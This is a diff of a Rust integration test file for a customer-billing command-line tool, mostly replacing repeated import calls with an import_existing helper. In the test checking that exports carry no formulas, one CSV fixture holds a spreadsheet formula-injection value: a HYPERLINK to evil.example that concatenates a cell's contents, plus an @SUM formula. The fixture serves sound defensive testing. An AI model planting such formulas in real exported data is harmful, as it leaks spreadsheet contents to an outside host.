@@ -6,7 +6,7 @@ mod common;
 mod plans;
 mod usage;
 
-use common::{cli, cli_closed_stdout, cli_stdin, stderr, stdout};
+use common::{cli, cli_closed_stdout, cli_stdin, import_existing, stderr, stdout};
 
 #[test]
 fn demo_then_list_shows_the_demo_customers() {
@@ -93,16 +93,7 @@ Card Shop,TW,TWD,active,prepaid_card
         stderr(&out)
     );
     // Brought in as an existing book, with a reason: each exception is recorded.
-    let out = cli(
-        &db,
-        &[
-            "customers",
-            "import",
-            good.to_str().unwrap(),
-            "--existing-book",
-            "the book as it was",
-        ],
-    );
+    let out = import_existing(cli, &db, good.to_str().unwrap(), "the book as it was");
     assert!(out.status.success(), "{}", stderr(&out));
     assert!(stdout(&out).contains("2 created"));
     assert!(
@@ -110,16 +101,7 @@ Card Shop,TW,TWD,active,prepaid_card
         "{}",
         stdout(&out)
     );
-    let out = cli(
-        &db,
-        &[
-            "customers",
-            "import",
-            good.to_str().unwrap(),
-            "--existing-book",
-            "the book as it was",
-        ],
-    );
+    let out = import_existing(cli, &db, good.to_str().unwrap(), "the book as it was");
     assert!(
         stdout(&out).contains("0 created, 0 updated, 2 unchanged"),
         "{}",
@@ -353,18 +335,11 @@ fn invoices_and_payments_import_all_or_nothing_and_idempotently() {
     assert!(cli(&db, &["init"]).status.success());
     let customers = dir.path().join("c.csv");
     std::fs::write(&customers, "legal_name,tenant_id,country,currency,payment_terms_days,status\nContoso Ltd,11111111-1111-4111-8111-111111111111,TW,TWD,30,active\n").unwrap();
-    assert!(cli(
-        &db,
-        &[
-            "customers",
-            "import",
-            customers.to_str().unwrap(),
-            "--existing-book",
-            "the book as it was"
-        ]
-    )
-    .status
-    .success());
+    assert!(
+        import_existing(cli, &db, customers.to_str().unwrap(), "the book as it was")
+            .status
+            .success()
+    );
     let invoices = dir.path().join("inv.csv");
     std::fs::write(
         &invoices,
@@ -603,16 +578,7 @@ fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
          \"=HYPERLINK(\"\"http://evil.example\"\"&A1;\"\"click\"\")\",TW,TWD,11111111-1111-4111-8111-111111111111,150000,active,+886 2 1234 5678,@SUM(1+1)\n",
     )
     .unwrap();
-    let out = cli(
-        &db,
-        &[
-            "customers",
-            "import",
-            full.to_str().unwrap(),
-            "--existing-book",
-            "the book as it was",
-        ],
-    );
+    let out = import_existing(cli, &db, full.to_str().unwrap(), "the book as it was");
     assert!(out.status.success(), "{}", stderr(&out));
     let partial = dir.path().join("partial.csv");
     std::fs::write(
